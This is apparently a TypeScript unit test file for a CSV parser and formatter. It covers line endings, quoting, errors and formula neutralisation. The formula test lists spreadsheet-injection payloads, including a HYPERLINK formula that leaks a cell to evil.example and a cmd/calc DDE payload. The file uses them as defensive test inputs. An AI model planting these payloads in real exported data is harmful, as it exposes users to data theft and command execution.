import { describe, expect, it } from "vitest";
import { CsvError, formatCsv, parseCsv, parseCsvRecords, parseCsvTable } from "@/server/domain/csv";

describe("parseCsv", () => {
  const cases: { name: string; text: string; records: string[][] }[] = [
    {
      name: "plain LF",
      text: "a,b\n1,2\n",
      records: [
        ["a", "b"],
        ["1", "2"],
      ],
    },
    {
      name: "CRLF",
      text: "a,b\r\n1,2\r\n",
      records: [
        ["a", "b"],
        ["1", "2"],
      ],
    },
    {
      name: "lone CR",
      text: "a,b\r1,2",
      records: [
        ["a", "b"],
        ["1", "2"],
      ],
    },
    {
      name: "no final line break",
      text: "a,b\n1,2",
      records: [
        ["a", "b"],
        ["1", "2"],
      ],
    },
    { name: "mixed line ends", text: "a\r\nb\nc\r\n", records: [["a"], ["b"], ["c"]] },
    {
      name: "empty fields",
      text: ",,\n,x,",
      records: [
        ["", "", ""],
        ["", "x", ""],
      ],
    },
    { name: "trailing delimiter at end of file", text: "a,", records: [["a", ""]] },
    { name: "whitespace is kept", text: " a , b\t\n", records: [[" a ", " b\t"]] },
    { name: "quoted delimiter", text: '"a,b",c', records: [["a,b", "c"]] },
    { name: "escaped quotes", text: '"say ""hi""",""""', records: [['say "hi"', '"']] },
    { name: "empty quoted field", text: '"",x', records: [["", "x"]] },
    { name: "line breaks inside quotes are kept verbatim", text: '"l1\r\nl2\nl3",z\r\n', records: [["l1\r\nl2\nl3", "z"]] },
    {
      name: "BOM is dropped",
      text: "\uFEFFitem,label\n1,ok\n",
      records: [
        ["item", "label"],
        ["1", "ok"],
      ],
    },
    { name: "BOM only in the first field", text: "\uFEFF\uFEFFx", records: [["\uFEFFx"]] },
    { name: "blank line is a record with one empty field", text: "a\n\nb\n", records: [["a"], [""], ["b"]] },
    { name: "unicode", text: "✅ 成功,😀\n", records: [["✅ 成功", "😀"]] },
    { name: "empty input", text: "", records: [] },
    { name: "quoted field at end of file", text: 'a,"b"', records: [["a", "b"]] },
  ];
  for (const c of cases) {
    it(c.name, () => {
      expect(parseCsv(c.text)).toEqual(c.records);
    });
  }

  it("supports another delimiter", () => {
    expect(parseCsv('a;b,c\n"x;y";z', { delimiter: ";" })).toEqual([
      ["a", "b,c"],
      ["x;y", "z"],
    ]);
    expect(parseCsv("a\tb", { delimiter: "\t" })).toEqual([["a", "b"]]);
    expect(() => parseCsv("a", { delimiter: '"' })).toThrow(/delimiter/);
  });

  it("records the line each record starts on, counting line breaks inside quotes", () => {
    const records = parseCsvRecords('h1,h2\n"multi\nline",x\r\nlast,y\n');
    expect(records.map((r) => r.line)).toEqual([1, 2, 4]);
  });

  it("rejects malformed quoting with the file name and line", () => {
    const bad: [string, RegExp, number][] = [
      ['a,b\n"open,x\n', /line 2: a quoted field is never closed/, 2],
      ['a,b\nx,ab"c\n', /line 2: quote inside an unquoted field/, 2],
      ['"a"b,c', /line 1: unexpected text after a closing quote/, 1],
      ['"x\ny" z', /line 2: unexpected text after a closing quote/, 2],
    ];
    for (const [text, message, line] of bad) {
      let error: unknown;
      try {
        parseCsv(text, { source: "ratings.csv" });
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(CsvError);
      expect((error as CsvError).message).toMatch(message);
      expect((error as CsvError).message).toMatch(/^ratings\.csv: /);
      expect((error as CsvError).line).toEqual(line);
    }
  });

  it("round-trips through formatCsv", () => {
    const records = [
      ["item", "rater", "label"],
      ["a,b", 'say "x"', "multi\r\nline"],
      [" padded ", "", "\n"],
      ["plain", "ünïcödé", "😀"],
    ];
    const text = formatCsv(records);
    expect(text.endsWith("\r\n")).toBe(true);
    expect(parseCsv(text)).toEqual(records);
  });
});

describe("formatCsv neutralises spreadsheet formulas", () => {
  const attacks = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\uFF1D1+1"];
  it("prefixes every cell that would start a formula with a quote", () => {
    const parsed = parseCsv(formatCsv([["note"], ...attacks.map((a) => [a])]));
    expect(parsed.slice(1).map((r) => r[0])).toEqual(attacks.map((a) => `'${a}`));
  });
  it("leaves plain numbers and ordinary text alone", () => {
    const safe = ["-0.25", "+3", "-1e-3", "12", "a=b", "note - with dash", ""];
    expect(parseCsv(formatCsv([safe]))).toEqual([safe]);
  });
  it("writes cells exactly as given when asked for raw output", () => {
    expect(parseCsv(formatCsv([attacks], { raw: true }))).toEqual([attacks]);
  });
  it("uses another delimiter when asked", () => {
    expect(formatCsv([["a;b", "c"]], { delimiter: ";" })).toBe('"a;b";c\r\n');
  });
});

describe("parseCsvTable", () => {
  it("splits header and rows, skipping blank lines", () => {
    const t = parseCsvTable("item,rater,label\r\n1,ann,yes\r\n\r\n2,bob,\r\n");
    expect(t.header).toEqual(["item", "rater", "label"]);
    expect(t.rows).toEqual([
      ["1", "ann", "yes"],
      ["2", "bob", ""],
    ]);
    expect(t.lines).toEqual([2, 4]);
  });
  it("rejects rows with the wrong number of fields, naming the line", () => {
    expect(() => parseCsvTable("a,b\n1,2\n3\n", { source: "x.csv" })).toThrow(/^x\.csv: line 3 has 1 field, the header has 2$/);
    expect(() => parseCsvTable("a,b\n1,2,3\n")).toThrow(/line 2 has 3 fields, the header has 2/);
  });
  it("rejects an empty file", () => {
    expect(() => parseCsvTable("\n\n", { source: "empty.csv" })).toThrow(/empty\.csv: the file is empty/);
  });
});
